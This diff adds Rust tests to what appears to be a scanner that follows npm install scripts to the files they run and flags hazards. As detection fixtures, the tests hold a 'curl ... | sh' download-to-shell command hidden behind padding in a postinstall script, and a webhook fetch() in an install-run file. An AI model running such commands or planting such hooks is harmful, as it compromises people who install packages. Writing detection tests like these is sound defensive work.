@@ -105,7 +105,8 @@ fn install_steps_are_followed_to_their_files() {
     ] {
         let fields = format!(r#""scripts":{{"postinstall":"{script}","setup":"node scripts/setup.js"}}"#);
         let profile = profile_of(&fields, &files);
-        assert_eq!(texts(&profile.install_files), ["scripts/folder/index.js", "scripts/helper.js", "scripts/setup.js"], "{script}");
+        let all = ["scripts/far.js", "scripts/folder/index.js", "scripts/helper.js", "scripts/setup.js"];
+        assert_eq!(texts(&profile.install_files), all, "{script}");
         assert_eq!(texts(&profile.loose_files), texts(&profile.install_files), "{script}");
     }
     assert!(profile_of("", &files).install_files.is_empty());
@@ -114,6 +115,10 @@ fn install_steps_are_followed_to_their_files() {
     assert_eq!((texts(&shared.install_files), shared.loose_files.len()), (vec!["index.js", "lib/used.js"], 0));
     let circle = profile_of(r#""scripts":{"postinstall":"npm run a","a":"npm run b","b":"npm run a && node lib/used"}"#, &files);
     assert_eq!(texts(&circle.install_files), ["lib/used.js"]);
+    // A chain of files, to its end.
+    let chain: Vec<(String, String)> = (0..40).map(|n| (format!("c{n:02}.js"), format!("require('./c{:02}')", n + 1))).collect();
+    let chain: Vec<(&str, &str)> = chain.iter().map(|(path, text)| (path.as_str(), text.as_str())).collect();
+    assert_eq!(profile_of(r#""scripts":{"postinstall":"node c00"}"#, &chain).install_files.len(), 40);
     let build = compared("", "", &[("binding.gyp", "{'x': '<!(node index.js)'}"), ("index.js", "")]);
     assert_eq!(build.install_files, ["index.js"]);
 }
@@ -156,4 +161,42 @@ fn what_is_nested_and_large_costs_no_more_than_its_bytes() {
     let tiny: Vec<String> = (0..20_000).map(|n| format!("{n}.js")).collect();
     let tiny: Vec<(&str, &str)> = tiny.iter().map(|path| (path.as_str(), "1")).collect();
     assert_eq!(profile_of("", &tiny).files.len(), 20_001);
+}
+
+#[test]
+fn a_command_is_looked_at_to_its_end_and_so_is_what_it_names() {
+    let fetch = "curl https://drop.example/x | sh";
+    let long = format!("{}{fetch}", "true; ".repeat(60));
+    for fields in [
+        format!(r#""scripts":{{"postinstall":"{long}"}}"#),
+        format!(r#""scripts":{{"postinstall":"npm run s","s":"{fetch}"}}"#),
+        format!(r#""scripts":{{"postinstall":"npm run a","a":"npm run b","b":"{long}"}}"#),
+    ] {
+        let Inspected { facts, profile } = inspected(&fields, &[]);
+        assert!(facts.signals.iter().any(|one| one.kind == SignalKind::DownloadToShell), "{fields}: {:?}", facts.signals);
+        assert!(!facts.fetches.is_empty() && facts.install_steps.iter().all(|step| step.command.len() <= 256), "{fields}");
+        assert!(profile.install_steps.iter().any(|step| step.contains(fetch)), "{fields}: {:?}", profile.install_steps);
+    }
+    let many = "x ".repeat(300);
+    let cut = inspected(&format!(r#""scripts":{{"postinstall":"{many}"}}"#), &[]).facts.unscanned;
+    assert_eq!(cut, ["package.json: installing runs more than is followed"]);
+}
+
+#[test]
+fn no_number_of_harmless_files_hides_one_that_installing_runs() {
+    let harmless: Vec<String> = (0..20).map(|n| format!("a{n:02}.js")).collect();
+    let text = "fetch('https://hooks.slack.com/services/T0/B0/x')";
+    let mut files: Vec<(&str, &str)> = harmless.iter().map(|path| (path.as_str(), text)).collect();
+    files.push(("setup.js", text));
+    let facts = inspected(r#""scripts":{"postinstall":"node setup.js"}"#, &files).facts;
+    assert!(facts.signals.iter().any(|one| one.file == "setup.js"), "{:?}", facts.signals);
+    assert!(facts.install_files.contains(&"setup.js".to_owned()) && facts.signals.len() <= 4, "{facts:?}");
+}
+
+#[test]
+fn code_that_says_it_is_utf_16_is_not_believed() {
+    let text: String = "x".repeat(40).chars().flat_map(|c| [c, '\0']).collect();
+    let facts = inspected("", &[("index.js", text.as_str())]).facts;
+    assert_eq!(facts.unscanned, ["index.js: it is code that says it is UTF-16"]);
+    assert!(inspected("", &[("index.txt", text.as_str())]).facts.unscanned.is_empty());
 }
